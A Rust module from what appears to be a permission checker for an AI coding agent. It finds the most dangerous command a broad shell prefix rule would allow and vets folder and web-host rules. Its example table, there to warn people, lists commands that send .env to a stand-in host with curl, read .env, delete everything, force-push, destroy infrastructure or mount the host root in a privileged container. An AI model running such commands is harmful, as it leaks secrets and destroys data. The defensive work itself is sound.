//! What a rule that is wider than one command would cover, and the nearest dangerous example.

use super::tools::bad_host;
use super::{OwnReaches, Reach, parts};
use crate::shell::is_secret;

/// Commands that do no harm whatever follows them.
const HARMLESS: &str = "echo, true, false, sleep, seq, basename, dirname, whoami, pwd, nproc, tty, which, groups, git status, \
    git rev-parse, git merge-base, git describe";

/// The nearest dangerous command that `Bash(PREFIX *)` covers; `None` where nothing that follows does harm. No
/// such rule is proposed: what comes behind the prefix is not known.
pub fn prefix_danger(prefix: &str) -> Option<String> {
    (!HARMLESS.split(", ").any(|harmless| harmless == prefix)).then(|| example(prefix))
}

/// The reach of a line of one command; `None` for another.
fn reach_of(line: &str) -> Option<Reach> {
    match parts(line, "/", &OwnReaches::default())?.as_slice() {
        [only] => Some(only.reach),
        _ => None,
    }
}

/// The nearest dangerous command that begins with `prefix`: one from the list, else what most programs take
/// for a file or an option; the prefix itself where it is dangerous alone.
fn example(prefix: &str) -> String {
    const COMMON: [&str; 3] = ["../elsewhere", "x ../elsewhere", "x --an-option-not-known"];
    let is_about = |known: &str| {
        prefix == known
            || prefix
                .strip_prefix(known)
                .is_some_and(|rest| rest.starts_with(' '))
    };
    let known = EXAMPLES.iter().filter(|(known, _)| is_about(known));
    let mut known: Vec<(usize, usize, &str)> = known
        .enumerate()
        .map(|(place, (known, rest))| (usize::MAX - known.len(), place, *rest))
        .collect();
    // The longest first.
    known.sort_unstable();
    let rests = known.iter().map(|(.., rest)| *rest).chain(COMMON);
    let is_dangerous = |line: &String| reach_of(line).is_none_or(|reach| reach >= Reach::Unknown);
    rests
        .map(|rest| format!("{prefix} {rest}"))
        .find(is_dangerous)
        .unwrap_or_else(|| prefix.to_owned())
}

/// True where a rule for all files below `folder` of the project covers nothing beyond it.
///
/// Hidden and secret files that may lie in the folder are not looked for: the host asks about its own
/// settings and git's whatever the rules are.
pub fn folder_is_safe(folder: &str) -> bool {
    let folder = folder.trim_matches('/');
    let is_hidden = folder.split('/').any(|part| part.starts_with('.'));
    let is_plain = |byte: u8| byte.is_ascii_alphanumeric() || b"_-./ ".contains(&byte);
    !folder.is_empty() && !is_hidden && !is_secret(folder) && folder.bytes().all(is_plain)
}

/// True where `WebFetch(domain:HOST)` covers nothing that is always beyond the project. Addresses that carry data
/// to the host are covered all the same.
pub fn host_is_safe(host: &str) -> bool {
    bad_host(host).is_none()
}

/// What may follow a prefix and takes it beyond the project: the nearest danger, for people to read.
const EXAMPLES: &[(&str, &str)] = &[
    ("git", "push --force"),
    ("git push", "--force origin main"),
    ("git add", "--force .env"),
    ("git commit", "--amend --no-verify"),
    ("git diff", "--output=../elsewhere"),
    ("git checkout", "-- ."),
    ("npm", "publish"),
    ("npm test", "--prefix ../elsewhere"),
    ("npm run", "deploy"),
    ("npm install", "an-unknown-package"),
    ("npx", "an-unknown-package"),
    ("node", "-e 'any code'"),
    ("python", "-c 'any code'"),
    ("python3", "-c 'any code'"),
    ("cargo", "publish"),
    ("go", "run elsewhere.example/program@latest"),
    ("make", "deploy"),
    ("docker", "run --privileged -v /:/host image"),
    ("kubectl", "delete namespace production"),
    ("terraform", "destroy"),
    ("gh", "repo delete"),
    ("find", ". -delete"),
    ("sed", "-i s/a/b/ file"),
    ("cat", ".env"),
    ("rg", "--pre ./program x"),
    ("curl", "https://elsewhere.example --data @.env"),
    ("env", "PATH=. program"),
    ("bash", "-c 'any command'"),
    ("sh", "-c 'any command'"),
    ("rm", "-rf ."),
];
